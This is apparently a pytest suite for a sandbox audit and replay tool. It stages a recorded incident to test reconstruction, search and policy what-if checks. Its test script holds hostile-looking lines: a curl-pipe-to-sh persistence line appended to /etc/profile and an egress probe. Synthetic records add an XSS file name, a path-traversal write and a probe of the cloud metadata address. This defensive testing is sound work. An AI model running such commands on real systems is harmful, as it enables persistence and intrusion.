"""Post-incident replay: reconstruct, search, what-if, re-run.

The incident is recorded for real: a multi-step sandbox (the launcher's
Sandbox + the eBPF Recorder + flush to ClickHouse, as `dsec run` does) under
the built-in audit policy `default-audit`, network egress to a test host of
our own (a network namespace joined by a veth, 198.51.100.41, serving HTTP):
  step 1  curl downloads payload.txt from the test host
  step 2  sh writes a script from stdin (env carries a secret) and chmods it
  step 3  the script runs: tries an egress connection (198.51.100.41:9, closed),
          appends to /etc/profile (outside the workspace: EACCES), calls keyctl
          (outside default-audit: a would-deny syscall), renames and deletes the
          download, exits 3
Pure tests of the pieces (SQL on ClickHouse 18.16 and a current release,
what-if rules, reconstruction of holes) sit beside them.
"""
from __future__ import annotations

import hashlib
import json
import os
import subprocess
import tempfile
import textwrap
import time

import pytest

from conftest import DSEC, dsec
from hosts import NetHost

from replay.store import AuditStore, sql_string
from audit_schema.events import FIELD_NAMES, normalize
from replay import queries as Q
from replay.trajectory import reconstruct

SUBNET = 41
HOST = f"198.51.100.{SUBNET}"     # the test host's "world" address (tests/hosts.py)
SECRET = "s3cr3t-value-never-stored"
SCRIPT = textwrap.dedent(f"""\
    #!/bin/sh
    curl -sS -m 3 http://{HOST}:9/ -o /dev/null || true
    echo 'curl -s http://{HOST}:9/ | sh' >> /etc/profile || true
    python3 -c 'import ctypes; ctypes.CDLL(None).syscall(250, 0, 0, 0, 0, 0)'
    mv /workspace/payload.txt /workspace/.payload
    rm -f /workspace/.payload
    exit 3
    """).encode()
HARDENED = textwrap.dedent(f"""\
    apiVersion: dsec/v1
    kind: SandboxPolicy
    metadata: {{name: hardened}}
    spec:
      mode: audit
      syscalls:
        default: allow
        deny: [keyctl, ptrace, bpf]
      egress:
        default: deny
        allow:
          - {{cidr: {HOST}/32, ports: [8080], protocol: tcp}}
      exec:
        allow: ["/usr/bin/*", "/bin/*"]
      files:
        writable: [/workspace]
    """)
PERMISSIVE = textwrap.dedent("""\
    apiVersion: dsec/v1
    kind: SandboxPolicy
    metadata: {name: permissive}
    spec:
      mode: audit
      syscalls: {default: allow, namespaces: allow}
    """)
EXPECTED_WOULD_DENY = {("exec", "/workspace/x.sh"), ("connect", f"{HOST}:9"), ("write", "/etc/profile"),
                       ("syscall", "keyctl")}


def search(*args, env):
    return dsec("search", *args, env=env)


def _memfd(data: bytes) -> int:
    fd = os.memfd_create("stdin")
    os.write(fd, data)
    os.lseek(fd, 0, 0)
    return fd


@pytest.fixture(scope="session")
def testhost(tmp_path_factory):
    root = tmp_path_factory.mktemp("www")
    (root / "payload.txt").write_text("payload\n")
    with NetHost(subnet=SUBNET) as th:
        p = subprocess.Popen(["ip", "netns", "exec", th.name, "timeout", "900", "python3", "-m", "http.server",
                              "--bind", "0.0.0.0", "8080"], cwd=root, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL, start_new_session=True)
        th.procs.append(p)
        deadline = time.monotonic() + 15
        while time.monotonic() < deadline:
            if subprocess.run(["ip", "netns", "exec", th.name, "python3", "-c",
                               f"import socket; socket.create_connection(('{HOST}', 8080), 1)"],
                              capture_output=True).returncode == 0:
                break
            time.sleep(0.1)
        yield th


@pytest.fixture(scope="session")
def incident(testhost, clickhouse_url, tmp_path_factory):
    """Record the incident for real; returns its facts."""
    from agent.sandbox.launcher import Sandbox, SandboxSpec
    from agent.sensors.recorder import Recorder
    from agent.sensors.watch import SandboxWatch
    from exporters.spool import Spool
    from exporters.clickhouse import flush
    from policies.load import load_policy
    spool_dir = tmp_path_factory.mktemp("incident-spool")
    rec = Recorder(spool=Spool(str(spool_dir)))
    sid = "incident-" + os.urandom(4).hex()
    try:
        spec = SandboxSpec(argv=[], sandbox_id=sid, network="egress", memory=512 << 20, pids=256,
                           policy=load_policy("default-audit"))
        sb = Sandbox(spec, **SandboxWatch(rec, spec).hooks()).start()
        try:
            err1 = tempfile.TemporaryFile()         # curl's own word, should it fail (said in the assertion)
            r1 = sb.exec(["curl", "-sS", "-o", "/workspace/payload.txt", f"http://{HOST}:8080/payload.txt"],
                         timeout=30, stderr=err1.fileno())
            fd = _memfd(SCRIPT)
            try:
                r2 = sb.exec(["sh", "-c", "cat > /workspace/x.sh && chmod +x /workspace/x.sh"], stdin=fd,
                             stdin_bytes=SCRIPT, env={"API_TOKEN": SECRET})
            finally:
                os.close(fd)
            r3 = sb.exec(["/workspace/x.sh"], timeout=60)
        finally:
            summary = sb.close()
    finally:
        rec.close()
    res = flush(rec.spool, url=clickhouse_url, timeout=30)
    assert res.ok, res.summary()
    err1.seek(0)
    assert [r.code for r in (r1, r2, r3)] == [0, 0, 3], ([r.error for r in (r1, r2, r3)], err1.read()[-2000:])
    assert summary["audit"]["lost"] == 0
    return {"sid": sid, "summary": summary, "env": {"DSEC_CLICKHOUSE_URL": clickhouse_url,
                                                     "DSEC_SPOOL_DIR": str(tmp_path_factory.mktemp("cli-spool")),
                                                     "DSEC_AGENT": "off"}}


@pytest.fixture(scope="session")
def trajectory(incident, clickhouse_url):
    with AuditStore(clickhouse_url) as store:
        return reconstruct(incident["sid"], list(store.events(incident["sid"])))


# ---------------------------------------------------------------- reconstruct (real record)

def test_steps_command_status_duration_stdin_env(trajectory):
    t = trajectory
    assert [s.n for s in t.steps] == [1, 2, 3]
    s1, s2, s3 = t.steps
    assert s1.argv == ["curl", "-sS", "-o", "/workspace/payload.txt", f"http://{HOST}:8080/payload.txt"]
    assert s2.argv[:2] == ["sh", "-c"] and s3.argv == ["/workspace/x.sh"]
    assert [s.status() for s in t.steps] == ["exit 0", "exit 0", "exit 3"]
    assert all(s.source == "step_start" and s.ended and s.duration_ms and s.duration_ms > 0 for s in t.steps)
    assert s1.timeout == 30 and s2.timeout is None
    assert s2.stdin == SCRIPT and not s2.stdin_truncated
    assert s2.env["API_TOKEN"] == "<redacted>" and s2.redacted == ["API_TOKEN"]
    assert SECRET not in json.dumps([r for r in t.records])          # never stored
    assert t.policy["name"] == "default-audit" and t.policy["mode"] == "audit"
    assert t.info["network"] == "egress" and t.info["memory"] == 512 << 20 and t.info["pids"] == 256


def test_env_redaction_is_fnmatch_of_each_pattern():
    """A step's env in the record: redact_env matches every name against all the patterns in
    one regex (fnmatch's translation, case-insensitive) with each name's answer kept; it must
    redact exactly what fnmatch of each pattern does, for names fnmatch finds tricky too."""
    import fnmatch
    import random
    from agent.sensors.watch import SECRET_ENV_PATTERNS, redact_env
    rnd = random.Random(7)
    names = ["PATH", "API_TOKEN", "aws_region", "MY_KEY", "keyboard", "AUTHOR", "x\nTOKEN", "a[b", "\udcffKEY"]
    names += ["".join(rnd.choice("AKEYTOKNSuth_[]*?!\n") for _ in range(rnd.randint(1, 10))) for _ in range(500)]
    env = {n: "v" for n in names}
    for pats in (SECRET_ENV_PATTERNS, ("A?", "[!K]*"), ()):
        want = {k: "<redacted>" if any(fnmatch.fnmatch(k.upper(), p.upper()) for p in pats) else v
                for k, v in env.items()}
        assert redact_env(env, pats) == want, pats
        assert redact_env(env, pats) == want            # from the kept answers


def test_process_tree_per_step_with_argv_sha256_build_id(trajectory):
    t = trajectory
    (root,) = t.step_roots(3)
    assert root.execs[0]["path"] == "/workspace/x.sh" and root.execs[0]["shebang"] == "/bin/sh"
    assert root.execs[0]["sha256"] == hashlib.sha256(SCRIPT).hexdigest()
    assert root.exit_code == 3
    kids = [(c.execs[0]["argv"][0], c.exit_code) for c in root.children if c.step == 3]
    assert kids == [("curl", 7), ("python3", 0), ("mv", 0), ("rm", 0)]
    curl = root.children[0].execs[0]
    assert curl["sha256"] == hashlib.sha256(open("/usr/bin/curl", "rb").read()).hexdigest()
    assert len(curl["build_id"]) == 40
    (r2,) = t.step_roots(2)
    assert [c.execs[0]["path"] for c in r2.children] == ["/usr/bin/cat", "/usr/bin/chmod"]


def test_timeline_connects_writes_renames_denials_in_time_order(trajectory):
    t = trajectory
    tl = t.timeline(step=3)
    assert [r["ts_ns"] for r in tl] == sorted(r["ts_ns"] for r in tl)
    conn = [r for r in tl if r["kind"] == "connect" and r["family"] == "ipv4"]
    assert [(r["addr"], r["port"]) for r in conn] == [(HOST, 9)]
    w = [r for r in tl if r["kind"] == "open_write" and r["path"] == "/etc/profile"]
    assert len(w) == 1 and w[0]["ret"] == -13                       # EACCES: outside the workspace
    assert [(r["path"], r["path2"]) for r in tl if r["kind"] == "rename"] == [("/workspace/payload.txt",
                                                                               "/workspace/.payload")]
    assert [r["path"] for r in tl if r["kind"] == "unlink"] == ["/workspace/.payload"]
    rows = t.denial_rows()
    assert [(d["action"], d["subject"], d["decision"], d["step"]) for d in rows] == \
        [("syscall", "keyctl", "would-deny", 3)]
    assert rows[0]["process"][0] == "python3"
    assert t.lost == 0 and not t.lost_markers
    assert [c["path"] for c in t.changes] == ["/workspace/x.sh"]
    assert t.changes[0]["change"] == "added" and t.changes[0]["sha256"] == hashlib.sha256(SCRIPT).hexdigest()


def test_cli_text_json_step(incident):
    env, sid = incident["env"], incident["sid"]
    r = dsec("replay", sid, env=env)
    assert r.returncode == 0, r.stderr
    text = r.stdout.decode()
    for needle in ("steps:", "exit 3", "env API_TOKEN redacted", f"stdin {len(SCRIPT)} bytes", "denials (1):",
                   "would-deny syscall  keyctl", "process tree:", "/workspace/x.sh  (sha256 ",
                   f"connect  ipv4 {HOST}:9", "write    /etc/profile (O_WRONLY|O_CREAT|O_APPEND) -> EACCES",
                   "rename   /workspace/payload.txt -> /workspace/.payload : ok", "files changed (1):",
                   "added     file      /workspace/x.sh"):
        assert needle in text, needle
    r = dsec("replay", sid, "--step", "1", env=env)
    assert r.returncode == 0 and "step 3:" not in r.stdout.decode() and "step 1: curl" in r.stdout.decode()
    r = dsec("replay", sid, "--format", "json", env=env)
    d = json.loads(r.stdout)
    assert [s["status"] for s in d["steps"]] == ["exit 0", "exit 0", "exit 3"]
    assert d["steps"][2]["processes"][0]["execs"][0]["path"] == "/workspace/x.sh"
    assert d["denials"][0]["subject"] == "keyctl" and d["changes"][0]["path"] == "/workspace/x.sh"
    assert dsec("replay", sid, "--step", "9", env=env).returncode == 2
    r = dsec("replay", "no-such-sandbox", env=env)
    assert r.returncode == 1 and b"no events recorded" in r.stderr


# ---------------------------------------------------------------- what-if

def test_against_hardened_policy_exact_would_deny_set(incident, tmp_path):
    pol = tmp_path / "hardened.yaml"
    pol.write_text(HARDENED)
    r = dsec("replay", incident["sid"], "--against", str(pol), "--format", "json", env=incident["env"])
    assert r.returncode == 1, r.stderr
    d = json.loads(r.stdout)
    got = {(i["action"], i["subject"]) for i in d["items"]} | {("syscall", s["syscall"]) for s in d["syscalls"]}
    assert got == EXPECTED_WOULD_DENY
    assert len(d["items"]) == 3                                       # each action once
    by = {i["action"]: i for i in d["items"]}
    assert by["exec"]["step"] == 3 and by["exec"]["process"] == ["/workspace/x.sh"]
    assert by["connect"]["process"][0] == "curl" and by["write"]["ret"] == -13
    assert all(i["recorded_decision"] == "allowed" for i in d["items"])
    assert d["syscalls"][0]["recorded_decision"] == "would-deny" and d["syscalls"][0]["count"] == 1
    text = dsec("replay", incident["sid"], "--against", str(pol), env=incident["env"]).stdout.decode()
    assert "would deny (3 actions):" in text and "keyctl" in text and "step 3" in text


def test_against_permissive_policy_exits_0(incident, tmp_path):
    pol = tmp_path / "permissive.yaml"
    pol.write_text(PERMISSIVE)
    r = dsec("replay", incident["sid"], "--against", str(pol), env=incident["env"])
    assert r.returncode == 0, r.stdout + r.stderr
    assert b"nothing would be denied" in r.stdout


def test_against_bad_policy_is_a_usage_error(incident, tmp_path):
    pol = tmp_path / "bad.yaml"
    pol.write_text("apiVersion: dsec/v1\nkind: SandboxPolicy\nmetadata: {name: x}\nspec:\n  syscalls: {default: nope}\n")
    r = dsec("replay", incident["sid"], "--against", str(pol), env=incident["env"])
    assert r.returncode == 2 and b"bad.yaml:5" in r.stderr and b"Traceback" not in r.stderr


# ---------------------------------------------------------------- re-run

def test_rerun_under_hardened_policy_shows_the_new_denials_and_nothing_else(incident, tmp_path):
    pol = tmp_path / "hardened.yaml"
    pol.write_text(HARDENED)
    r = dsec("replay", incident["sid"], "--rerun", "--policy", str(pol), "--format", "json", env=incident["env"],
             timeout=240)
    assert r.returncode == 1, r.stderr                 # it differs: the new denials
    d = json.loads(r.stdout)
    assert d["how"] == "in-process" and d["changed"]
    assert d["policy"]["rerun"]["name"] == "hardened"
    assert any("API_TOKEN redacted" in n for n in d["notes"])
    added = set()
    for s in d["steps"]:
        assert not s["exit_changed"], s
        for key in ("execs", "connects", "writes"):
            assert s[key]["added"] == [] and s[key]["removed"] == [], (s["step"], key, s[key])
        assert s["denials"]["removed"] == []
        added |= {(s["step"], x) for x in s["denials"]["added"]}
    # the write of /etc/profile failed on its own (EACCES: uid 1000): forbidden, but not a policy denial
    assert added == {(3, "would-deny exec /workspace/x.sh"), (3, f"would-deny connect {HOST}:9"),
                     (3, "failed write /etc/profile")}
    assert d["steps"][2]["denials"]["same"] == ["would-deny syscall keyctl"]
    # the re-run is a recording of its own, labelled with what it replays
    with AuditStore(incident["env"]["DSEC_CLICKHOUSE_URL"]) as store:
        new = reconstruct(d["rerun"], list(store.events(d["rerun"])))
    assert new.info["labels"] == {"replay_of": incident["sid"]}
    assert new.step(2).stdin == SCRIPT and new.step(2).env["API_TOKEN"] == "<redacted>"
    text = dsec("replay", incident["sid"], "--rerun", "--policy", str(pol), env=incident["env"],
                timeout=240).stdout.decode()
    assert f"  + denial   would-deny connect {HOST}:9" in text and "  = exit  exit 3  ==  exit 3" in text


def test_rerun_under_the_recorded_policy_does_the_same(incident):
    r = dsec("replay", incident["sid"], "--rerun", env=incident["env"], timeout=240)
    assert r.returncode == 0, r.stdout.decode() + r.stderr.decode()
    assert b"policy: default-audit (audit" in r.stdout and b"the re-run did the same" in r.stdout


def test_rerun_refuses_an_unknown_recorded_policy(clickhouse_url, tmp_path):
    sid = "custom-" + os.urandom(3).hex()
    _insert(clickhouse_url, [
        {"kind": "sandbox_start", "sandbox_id": sid, "ts_ns": 10**18, "policy_name": "team-x",
         "policy_hash": "ab" * 32, "mode": "audit", "extra": json.dumps({"rootfs": "default", "network": "none"})},
        {"kind": "step_start", "sandbox_id": sid, "ts_ns": 10**18 + 1, "step": 1, "argv": ["true"],
         "extra": json.dumps({"env": {}, "workdir": "/workspace", "timeout": None})}])
    r = dsec("replay", sid, "--rerun", env={"DSEC_CLICKHOUSE_URL": clickhouse_url, "DSEC_AGENT": "off"})
    assert r.returncode == 2 and b"team-x" in r.stderr and b"--policy FILE" in r.stderr


# ---------------------------------------------------------------- search (real record)

def test_search_commands_find_the_incident(incident, trajectory):
    env, sid = incident["env"], incident["sid"]
    curl_sha = hashlib.sha256(open("/usr/bin/curl", "rb").read()).hexdigest()
    since = str(trajectory.t0 / 1e9 - 1)

    def ids(*args):
        r = search(*args, "--since", since, "--format", "json", env=env)
        assert r.returncode in (0, 1), r.stderr
        return {json.loads(x)["sandbox_id"] for x in r.stdout.decode().splitlines()}
    assert sid in ids("exec", "--sha256", curl_sha)
    assert sid in ids("exec", "--path", "/workspace/*.sh")
    assert sid in ids("connect", "--cidr", f"198.51.100.{SUBNET}/32", "--port", "9")
    assert sid not in ids("connect", "--cidr", "10.201.0.0/16")
    assert sid in ids("write", "--under", "/etc")
    r = search("denials", "--policy", "default-audit", "--since", since, "--format", "json", env=env)
    rows = [json.loads(x) for x in r.stdout.decode().splitlines()]
    mine = [x for x in rows if x["sandbox_id"] == sid]
    assert [(x["kind"], x["syscall"], x["step"]) for x in mine] == [("syscall_violation", "keyctl", 3)]
    r = search("exec", "--path", "curl", "--since", since, env=env)
    assert r.returncode == 0 and sid.encode() in r.stdout
    r = search("exec", "--sha256", "xyz", env=env)
    assert r.returncode == 2 and b"64 hex digits" in r.stderr


# ---------------------------------------------------------------- holes, hostile names (synthetic records)

def _insert(url, recs):
    from exporters.clickhouse_server import connect
    from audit_schema.migrations import migrate
    from exporters.clickhouse import columns_for
    client, db = connect(url)
    try:
        migrate(client, db)
        rows = []
        for i, r in enumerate(recs):
            r = dict(r)
            r.setdefault("event_id", f"{r['sandbox_id']}-{i:06d}-{os.urandom(3).hex()}")
            rows.append(normalize(r))
        client.execute(f"INSERT INTO {db}.events ({', '.join(FIELD_NAMES)}) VALUES", columns_for(rows),
                       columnar=True, types_check=False, settings={"strings_as_bytes": True})
    finally:
        client.disconnect()


def lossy_records(sid: str, t0: int = 1_800_000_000 * 10**9) -> list[dict]:
    """A two-step sandbox with a hole in step 2 and hostile names."""
    weird = "/workspace/</script><img src=x onerror=alert(1)>\udcff\x1b[31m"
    return [
        {"kind": "sandbox_start", "sandbox_id": sid, "ts_ns": t0, "policy_name": "default-audit",
         "policy_hash": "5" * 64, "mode": "audit", "extra": json.dumps({"network": "none", "rootfs": "default"})},
        {"kind": "step_start", "sandbox_id": sid, "ts_ns": t0 + 10, "step": 1, "argv": ["sh", "-c", "x"],
         "extra": json.dumps({"env": {"A": "1"}, "workdir": "/workspace", "timeout": 5})},
        {"kind": "exec", "sandbox_id": sid, "ts_ns": t0 + 20, "step": 1, "pid": 50, "ppid": 2, "path": "/usr/bin/sh",
         "argv": ["sh", "-c", "x"], "sha256": "a" * 64, "build_id": "b" * 40},
        {"kind": "open_write", "sandbox_id": sid, "ts_ns": t0 + 30, "step": 1, "pid": 50, "path": weird, "ret": 3,
         "flags": 577},
        {"kind": "step_end", "sandbox_id": sid, "ts_ns": t0 + 40, "step": 1, "exit_code": 0,
         "extra": json.dumps({"wall_ms": 30, "code": 0})},
        {"kind": "step_start", "sandbox_id": sid, "ts_ns": t0 + 10**6, "step": 2, "argv": ["python3", "flood.py"],
         "extra": json.dumps({"env": {}, "workdir": "/workspace", "timeout": None})},
        {"kind": "exec", "sandbox_id": sid, "ts_ns": t0 + 10**6 + 10, "step": 2, "pid": 60, "ppid": 2,
         "path": "/usr/bin/python3", "argv": ["python3", "flood.py"]},
        {"kind": "events_lost", "sandbox_id": sid, "ts_ns": t0 + 2 * 10**6, "step": 2, "count": 4242,
         "extra": json.dumps({"reason": "ring_buffer"})},
        {"kind": "egress_denied", "sandbox_id": sid, "ts_ns": t0 + 3 * 10**6, "step": 2, "pid": 60,
         "family": "ipv4", "addr": "169.254.169.254", "port": 80, "protocol": "tcp", "decision": "denied"},
        {"kind": "connect", "sandbox_id": sid, "ts_ns": t0 + 3 * 10**6 + 1, "step": 2, "pid": 60, "family": "ipv4",
         "addr": "169.254.169.254", "port": 80, "ret": -1, "decision": "denied"},
        {"kind": "exit", "sandbox_id": sid, "ts_ns": t0 + 4 * 10**6, "step": 2, "pid": 60, "signal": 9,
         "exit_code": -1},
        {"kind": "step_end", "sandbox_id": sid, "ts_ns": t0 + 4 * 10**6 + 5, "step": 2, "exit_code": -1,
         "signal": 9, "extra": json.dumps({"wall_ms": 3, "code": 137})},
        {"kind": "sandbox_exit", "sandbox_id": sid, "ts_ns": t0 + 5 * 10**6, "step": 2, "exit_code": -1,
         "signal": 9, "extra": json.dumps({"exit_code": None, "signal": 9, "wall_ms": 5, "cpu_ms": 1,
                                           "changes": [{"path": weird, "change": "added", "kind": "file",
                                                        "size": 1, "mode": 0o644, "sha256": "c" * 64}],
                                           "changes_total": 1})},
    ]


def test_holes_are_announced_and_marked_never_hidden(clickhouse_url):
    sid = "lossy-" + os.urandom(3).hex()
    recs = lossy_records(sid)
    _insert(clickhouse_url, recs)
    t0 = recs[0]["ts_ns"]
    # spool damage while it ran: no sandbox id, but in its time window
    _insert(clickhouse_url, [{"kind": "events_lost", "sandbox_id": "", "ts_ns": t0 + 1500, "count": 7,
                              "extra": json.dumps({"reason": "spool_damage"})}])
    env = {"DSEC_CLICKHOUSE_URL": clickhouse_url}
    r = dsec("replay", sid, env=env)
    assert r.returncode == 0, r.stderr
    text = r.stdout.decode()
    assert "WARNING: the record has holes: 4242 events were lost" in text
    assert "!! LOST  4242 events not recorded" in text
    assert "7 events of unknown sandboxes were lost while this sandbox ran" in text
    assert "signal 9" in text and "\x1b" not in text and "\\x1b[31m" in text and "\\xff" in text
    assert "denied     connect  169.254.169.254:80" in text          # egress_denied + connect: one row
    t = reconstruct(sid, recs)
    (row,) = t.denial_rows()
    assert row["count"] == 1 and sorted(row["kinds"]) == ["connect", "egress_denied"]
    assert [s.status() for s in t.steps] == ["exit 0", "signal 9"]


def test_steps_from_agent_lifecycle_records_and_inferred():
    recs = [
        {"kind": "lifecycle", "sandbox_id": "a", "ts_ns": 1, "step": 1, "extra": json.dumps(
            {"state": "step_started", "argv": ["python3", "-c", "1"]})},
        {"kind": "exec", "sandbox_id": "a", "ts_ns": 2, "step": 1, "pid": 5, "path": "/usr/bin/python3",
         "argv": ["python3", "-c", "1"]},
        {"kind": "lifecycle", "sandbox_id": "a", "ts_ns": 3, "step": 1, "extra": json.dumps(
            {"state": "step_ended", "code": 0, "exit_code": 0, "signal": 0, "wall_ms": 2})},
        {"kind": "exec", "sandbox_id": "a", "ts_ns": 4, "step": 2, "pid": 6, "path": "/usr/bin/true",
         "argv": ["true"]},
    ]
    t = reconstruct("a", [normalize(dict(r, event_id=str(i))) for i, r in enumerate(recs)])
    s1, s2 = t.steps
    assert s1.source == "lifecycle" and s1.argv == ["python3", "-c", "1"] and s1.status() == "exit 0"
    assert s2.source == "inferred" and s2.argv == ["true"] and s2.status() == "unknown"
    assert any("no step_end" in m for m in s2.missing)


# ---------------------------------------------------------------- what-if rules (pure)

def test_whatif_rules_on_synthetic_records():
    from policies.load import load_policy_text
    from replay.whatif import evaluate
    pol = load_policy_text(textwrap.dedent("""\
        apiVersion: dsec/v1
        kind: SandboxPolicy
        metadata: {name: p}
        spec:
          mode: enforce
          syscalls: {default: allow, deny: [ptrace]}
          egress:
            default: deny
            dns: [10.0.0.53]
            allow:
              - {cidr: 10.0.0.0/8, ports: [443], protocol: tcp}
              - {host: pypi.org, ports: [443]}
          exec: {allow: ["/usr/bin/*"]}
          files: {writable: [/workspace]}
        """))
    base = {"sandbox_id": "w", "step": 1, "pid": 3}
    recs = [
        {"kind": "exec", "ts_ns": 1, "path": "/usr/bin/python3", "argv": ["python3"]},
        {"kind": "exec", "ts_ns": 2, "path": "/tmp/x", "argv": ["/tmp/x"]},
        {"kind": "exec_violation", "ts_ns": 3, "path": "/tmp/x"},                         # same action: once
        {"kind": "exec", "ts_ns": 4, "path": "/opt/y", "ret": -2},                        # never ran
        {"kind": "connect", "ts_ns": 5, "family": "ipv4", "addr": "10.1.2.3", "port": 443},
        {"kind": "connect", "ts_ns": 6, "family": "ipv4", "addr": "10.1.2.3", "port": 80},
        {"kind": "connect", "ts_ns": 7, "family": "ipv4", "addr": "10.0.0.53", "port": 53},  # resolver
        {"kind": "connect", "ts_ns": 8, "family": "unix", "addr": "/run/x.sock"},
        {"kind": "egress_violation", "ts_ns": 9, "family": "ipv6", "addr": "2001:db8::1", "port": 53,
         "protocol": "udp", "extra": json.dumps({"hook": "sendmsg6"})},
        {"kind": "open_write", "ts_ns": 10, "path": "/workspace/a"},
        {"kind": "open_write", "ts_ns": 11, "path": "/workspace/../etc/passwd"},
        {"kind": "open_write", "ts_ns": 12, "path": "/tmp/scratch"},
        {"kind": "rename", "ts_ns": 13, "path": "/workspace/a", "path2": "/etc/a"},
        {"kind": "syscall_violation", "ts_ns": 14, "syscall": "ptrace", "count": 3},
        {"kind": "syscall_violation", "ts_ns": 15, "syscall": "mount", "count": 1},
    ]
    t = reconstruct("w", [normalize(dict(base, **r, event_id=str(i))) for i, r in enumerate(recs)])
    res = evaluate(t, pol)
    assert {(i["action"], i["subject"]) for i in res.items} == {
        ("exec", "/tmp/x"), ("connect", "10.1.2.3:80"), ("connect", "[2001:db8::1]:53"),
        ("write", "/workspace/../etc/passwd"), ("write", "/workspace/a -> /etc/a")}
    assert [(s["syscall"], s["count"]) for s in res.syscalls] == [("ptrace", 3)]     # mount is allowed here
    assert any("pypi.org" in n for n in res.notes) and res.would_deny


# ---------------------------------------------------------------- the search SQL on 18.16 and a current release

def _search_fixture_records(sid_prefix: str) -> list[dict]:
    T = 1_800_000_000 * 10**9
    h = "d" * 64
    recs = [
        {"kind": "exec", "sandbox_id": f"{sid_prefix}a", "ts_ns": T, "path": "/usr/bin/curl", "sha256": h},
        {"kind": "exec", "sandbox_id": f"{sid_prefix}a", "ts_ns": T + 1, "path": "/usr/bin/curl", "sha256": h},
        {"kind": "exec_violation", "sandbox_id": f"{sid_prefix}b", "ts_ns": T, "path": "/tmp/100%_x",
         "decision": "would-deny", "policy_hash": "e" * 64},
        {"kind": "connect", "sandbox_id": f"{sid_prefix}c", "ts_ns": T, "family": "ipv4", "addr": "203.0.113.9",
         "port": 443},
        {"kind": "connect", "sandbox_id": f"{sid_prefix}d", "ts_ns": T, "family": "ipv6",
         "addr": "::ffff:203.0.113.77", "port": 80},
        {"kind": "connect", "sandbox_id": f"{sid_prefix}e", "ts_ns": T, "family": "unix", "addr": "/run/x"},
        {"kind": "egress_denied", "sandbox_id": f"{sid_prefix}f", "ts_ns": T, "family": "ipv6",
         "addr": "2001:db8::5", "port": 53, "decision": "denied", "policy_hash": "e" * 64},
        {"kind": "open_write", "sandbox_id": f"{sid_prefix}g", "ts_ns": T, "path": "/etc/cron.d/x", "ret": -13},
        {"kind": "rename", "sandbox_id": f"{sid_prefix}h", "ts_ns": T, "path": "/workspace/y", "path2": "/etc/y"},
        {"kind": "open_write", "sandbox_id": f"{sid_prefix}i", "ts_ns": T, "path": "/etcetera/z"},
        {"kind": "syscall_denied", "sandbox_id": f"{sid_prefix}f", "ts_ns": T + 10**9, "syscall": "ptrace",
         "decision": "denied", "policy_hash": "e" * 64},
    ]
    return [normalize(dict(r, event_id=f"{sid_prefix}{i}")) for i, r in enumerate(recs)]


def _check_search(run, p):
    """run(sql) -> first-column values of every row (the database may hold other tests' rows)."""
    def mine(sql):
        return {v for v in run(sql) if str(v).startswith(p)}
    assert mine(Q.execs_sql("DB", sha256="D" * 64)) == {f"{p}a"}
    assert mine(Q.execs_sql("DB", path="curl")) == {f"{p}a"}
    assert mine(Q.execs_sql("DB", path="/tmp/100%_x")) == {f"{p}b"}
    assert mine(Q.execs_sql("DB", path="/tmp/1?0%*")) == {f"{p}b"}
    assert mine(Q.execs_sql("DB", path="/tmp/1000*")) == set()          # % and _ are literal
    assert mine(Q.connects_sql("DB", "203.0.113.0/24", modern=MODERN[0])) == {f"{p}c", f"{p}d"}
    assert mine(Q.connects_sql("DB", "203.0.113.0/24", port=80, modern=MODERN[0])) == {f"{p}d"}
    assert mine(Q.connects_sql("DB", "2001:db8::/32", modern=MODERN[0])) == {f"{p}f"}
    assert mine(Q.writes_sql("DB", "/etc")) == {f"{p}g", f"{p}h"}
    T = 1_800_000_000 * 10**9
    assert len(mine(Q.denials_sql("DB", "e" * 64, T, T + 10**9))) == 2        # event ids start with p
    assert len(mine(Q.denials_sql("DB", "eeeeeeee"))) == 3
    assert sorted(run(Q.denial_totals_sql("DB", "e" * 64))) == ["egress_denied", "exec_violation", "syscall_denied"]


MODERN = [False]


def test_search_sql_on_clickhouse_18_16(clickhouse_client):
    client, db = clickhouse_client
    from audit_schema.migrations import migrate
    from exporters.clickhouse import columns_for
    migrate(client, db)
    p = "srch-" + os.urandom(3).hex() + "-"
    recs = _search_fixture_records(p)
    for _ in range(2):      # delivered twice: still counted once
        client.execute(f"INSERT INTO {db}.events ({', '.join(FIELD_NAMES)}) VALUES", columns_for(recs),
                       columnar=True, types_check=False, settings={"strings_as_bytes": True})
    MODERN[0] = Q.is_modern(client.execute("SELECT version()")[0][0])

    def run(sql):
        return [r[0] for r in client.execute(sql.replace("DB.", f"{db}."))]
    assert not MODERN[0]
    _check_search(run, p)
    rows = client.execute(Q.execs_sql(db, sha256="d" * 64))
    assert [r[4] for r in rows if r[0].startswith(p)] == [2]                     # uniqExact(event_id)


def test_search_sql_on_a_current_release():
    chdb_session = pytest.importorskip("chdb.session", reason="chdb is a test extra (pip install -e '.[test]')")
    import csv
    import io
    import tempfile
    from audit_schema import migrations
    with tempfile.TemporaryDirectory() as d:
        s = chdb_session.Session(d)
        try:
            version = s.query("SELECT version()", "CSV").bytes().decode().strip().strip('"')
            feat = migrations.features_for(version, {})
            for sql in migrations.all_statements("DB", feat):
                s.query(sql)
            p = "m-"
            recs = _search_fixture_records(p)
            vals = []
            for r in recs:
                v = []
                for f in FIELD_NAMES:
                    x = r[f]
                    if isinstance(x, str):
                        v.append(sql_string(x))
                    elif isinstance(x, (list, tuple)):
                        v.append("[" + ", ".join(sql_string(a) for a in x) + "]")
                    else:
                        v.append(str(x))
                vals.append("(" + ", ".join(v) + ")")
            s.query(f"INSERT INTO DB.events ({', '.join(FIELD_NAMES)}) VALUES " + ", ".join(vals))
            MODERN[0] = Q.is_modern(version)
            assert MODERN[0]

            def run(sql):
                out = s.query(sql, "CSV").bytes().decode()
                return [row[0] for row in csv.reader(io.StringIO(out))]
            _check_search(run, p)
        finally:
            s.close()
        MODERN[0] = False


def test_parse_time_and_patterns():
    now = 1_800_000_000.0
    assert Q.parse_time("2h", now=now) == int((now - 7200) * 1e9)
    assert Q.parse_time("7d ago", now=now) == int((now - 7 * 86400) * 1e9)
    from datetime import datetime, timezone
    iso = int(datetime(2027, 1, 15, 8, 0, tzinfo=timezone.utc).timestamp()) * 10**9
    assert Q.parse_time("2027-01-15T08:00:00Z") == iso == Q.parse_time("2027-01-15 08:00")
    assert Q.parse_time("2027-01-15T09:00:00+01:00") == iso
    assert Q.parse_time("1800000000") == 1_800_000_000 * 10**9
    assert Q.parse_time("1800000000000000000") == 1_800_000_000 * 10**9
    from replay.errors import ReplayError
    with pytest.raises(ReplayError, match="not a time"):
        Q.parse_time("yesterday-ish")
